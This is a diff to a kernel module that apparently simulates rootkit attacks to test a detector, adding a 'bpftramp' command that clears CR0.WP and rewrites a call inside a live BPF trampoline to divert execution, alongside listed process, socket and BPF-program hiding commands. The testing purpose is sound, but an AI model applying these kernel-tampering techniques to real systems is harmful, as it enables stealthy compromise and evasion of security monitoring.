@@ -24,7 +24,12 @@
  *   hidebpf ID                     remove eBPF program ID from prog_idr (idr_remove under prog_idr_lock): gone from
  *                                  bpftool and every BPF_PROG_GET_NEXT_ID walk, still attached and running (Periscope's
  *                                  bpf cross-view finds it where it is attached); a reference is held until restore
- *   restore                        undo syscall, patch, ftrace, hidepid, usercode, hidesock and hidebpf (not hide)
+ *   bpftramp SYMBOL                rewrite one call in the live bpf trampoline image that SYMBOL's ftrace site calls (a
+ *                                  program attached alone on SYMBOL, e.g. bpfload fentry): the call to the kernel's
+ *                                  __bpf_prog_exit* (or enter*) helper now goes to tamper_tramp_helper in this module,
+ *                                  which counts and calls the real helper; the program stays listed in prog_idr
+ *   restore                        undo syscall, patch, ftrace, hidepid, usercode, hidesock, hidebpf and bpftramp (not
+ *                                  hide); restore bpftramp BEFORE the program is detached (its image is freed then)
  *   status                         what is currently in effect, and the ftrace hit count
  *
  * One attack of each kind may be in effect at a time; a second one is refused until `restore`.
@@ -547,6 +552,8 @@ static int cmd_hidesock(char *arg);
 static bool undo_hidesock(void);
 static int cmd_hidebpf(char *arg);
 static bool undo_hidebpf(void);
+static int cmd_bpftramp(char *sym);
+static bool undo_bpftramp(void);
 
 static void undo_all(void)
 {
@@ -608,6 +615,7 @@ static void undo_all(void)
 	}
 	any |= undo_hidesock();
 	any |= undo_hidebpf();
+	any |= undo_bpftramp();
 	if (!any)
 		report("restore nothing");
 }
@@ -661,6 +669,8 @@ static ssize_t tamper_write(struct file *file, const char __user *ubuf, size_t c
 		ret = cmd_hidesock(a1);
 	else if (!strcmp(verb, "hidebpf"))
 		ret = cmd_hidebpf(a1);
+	else if (!strcmp(verb, "bpftramp"))
+		ret = cmd_bpftramp(a1);
 	else if (!strcmp(verb, "restore")) {
 		undo_all();
 		ret = 0;
@@ -668,7 +678,7 @@ static ssize_t tamper_write(struct file *file, const char __user *ubuf, size_t c
 		cmd_status();
 		ret = 0;
 	} else
-		ret = fail(-EINVAL, "error: unknown command '%s' (syscall, patch, ftrace, hide, unhide, rename, hidepid, usercode, flaghide, hidesock, hidebpf, restore, status)",
+		ret = fail(-EINVAL, "error: unknown command '%s' (syscall, patch, ftrace, hide, unhide, rename, hidepid, usercode, flaghide, hidesock, hidebpf, bpftramp, restore, status)",
 			   verb);
 	mutex_unlock(&tamper_lock);
 	return ret ? ret : count;
@@ -849,5 +859,106 @@ static bool undo_hidebpf(void)
 	report("restore hidebpf %u prog=0x%lx %s", hb.id, (unsigned long)hb.prog, got == (int)hb.id ? "relinked" : "not relinked");
 	bpf_prog_put(hb.prog);
 	hb.active = false;
+	return true;
+}
+
+/*
+ * bpftramp SYMBOL: what a rootkit that owns kernel memory does to ride on a legitimate fentry program: SYMBOL's ftrace
+ * site calls the image of its bpf trampoline; one call in that image, to the kernel's __bpf_prog_exit* (or enter*)
+ * helper, is rewritten (its rel32, through the image's read-only mapping with CR0.WP cleared) to go to
+ * tamper_tramp_helper, which counts and forwards to the real helper with the same arguments, so the guest keeps
+ * working. The program stays listed in prog_idr and its own JIT code is untouched. `restore` puts the old rel32 back
+ * if the image still holds ours; it must come before the program is detached, which frees the image.
+ */
+static struct {
+	bool active;
+	u8 *call;           /* the rewritten call instruction in the image */
+	s32 old_rel, new_rel;
+	unsigned long image;
+	char sym[KSYM_NAME_LEN];
+} bt;
+
+typedef u64 (*tramp_helper_t)(u64, u64, u64, u64, u64, u64);
+static tramp_helper_t bt_real;
+static atomic64_t bt_hits = ATOMIC64_INIT(0);
+
+/* Stands in for the rewritten helper: every helper a trampoline calls takes at most six integer arguments and returns
+ * at most 64 bits in rax, so forwarding all six argument registers is the same call. */
+static noinline notrace u64 tamper_tramp_helper(u64 a, u64 b, u64 c, u64 d, u64 e, u64 f)
+{
+	atomic64_inc(&bt_hits);
+	return bt_real(a, b, c, d, e, f);
+}
+
+#define BPFTRAMP_SCAN 1024   /* an fentry trampoline with one program is ~150 bytes */
+
+static int cmd_bpftramp(char *sym)
+{
+	static const char *const helpers[] = {
+		"__bpf_prog_exit_recur", "__bpf_prog_exit", "__bpf_prog_exit_sleepable_recur", "__bpf_prog_exit_sleepable",
+		"__bpf_prog_enter_recur", "__bpf_prog_enter", "__bpf_prog_enter_sleepable_recur", "__bpf_prog_enter_sleepable",
+	};
+	static u8 code[BPFTRAMP_SCAN];
+	unsigned long func, site, image, target, helper = (unsigned long)tamper_tramp_helper;
+	size_t have = 0, i, h;
+	u8 insn[5];
+	long rel;
+
+	if (!sym)
+		return fail(-EINVAL, "error bpftramp: usage: bpftramp SYMBOL");
+	if (bt.active)
+		return fail(-EBUSY, "error bpftramp: the trampoline of %s is already rewritten; restore first", bt.sym);
+	func = lookup(sym);
+	if (!func)
+		return fail(-ENOENT, "error bpftramp: unknown symbol %s", sym);
+	site = func;
+	if (!copy_from_kernel_nofault(insn, (void *)func, 4) && !memcmp(insn, "\xf3\x0f\x1e\xfa", 4))
+		site = func + 4;
+	if (copy_from_kernel_nofault(insn, (void *)site, 5) || insn[0] != 0xe8)
+		return fail(-ENOENT, "error bpftramp: %s's site 0x%lx does not call a trampoline (attach one program alone on it)", sym, site);
+	image = site + 5 + (long)(s32)get_unaligned_le32(insn + 1);
+	/* Read as much of the image as is mapped, in small steps (7.x packs images into shared pages). */
+	while (have < sizeof(code) && !copy_from_kernel_nofault(code + have, (void *)(image + have), 64))
+		have += 64;
+	for (i = 0; i + 5 <= have; i++) {
+		if (code[i] != 0xe8)
+			continue;
+		target = image + i + 5 + (long)(s32)get_unaligned_le32(code + i + 1);
+		for (h = 0; h < ARRAY_SIZE(helpers); h++)
+			if (target == lookup(helpers[h]))
+				goto found;
+	}
+	return fail(-ENOENT, "error bpftramp: no call to a __bpf_prog_enter/exit helper in the %zu bytes read at image 0x%lx", have, image);
+found:
+	rel = (long)helper - (long)(image + i + 5);
+	if (rel != (s32)rel)
+		return fail(-ERANGE, "error bpftramp: tamper_tramp_helper 0x%lx is out of rel32 reach of image 0x%lx", helper, image);
+	bt_real = (tramp_helper_t)target;
+	bt.call = (u8 *)(image + i);
+	bt.old_rel = (s32)get_unaligned_le32(code + i + 1);
+	bt.new_rel = (s32)rel;
+	bt.image = image;
+	atomic64_set(&bt_hits, 0);
+	if (write_ro(bt.call + 1, &bt.new_rel, sizeof(bt.new_rel)))
+		return fail(-EOPNOTSUPP, "error bpftramp: CR4.CET is set, cannot clear CR0.WP");
+	strscpy(bt.sym, sym, sizeof(bt.sym));
+	bt.active = true;
+	report("bpftramp %s site=0x%lx image=0x%lx call=0x%lx offset=0x%zx old=0x%lx (%s) new=0x%lx", sym, site, image,
+	       (unsigned long)bt.call, i, target, helpers[h], helper);
+	return 0;
+}
+
+static bool undo_bpftramp(void)
+{
+	s32 now;
+
+	if (!bt.active)
+		return false;
+	if (!copy_from_kernel_nofault(&now, bt.call + 1, sizeof(now)) && now == bt.new_rel &&
+	    !write_ro(bt.call + 1, &bt.old_rel, sizeof(bt.old_rel)))
+		report("restore bpftramp %s call=0x%lx hits=%lld", bt.sym, (unsigned long)bt.call, atomic64_read(&bt_hits));
+	else
+		report("restore bpftramp %s call=0x%lx changed by someone else (or freed), left alone", bt.sym, (unsigned long)bt.call);
+	bt.active = false;
 	return true;
 }
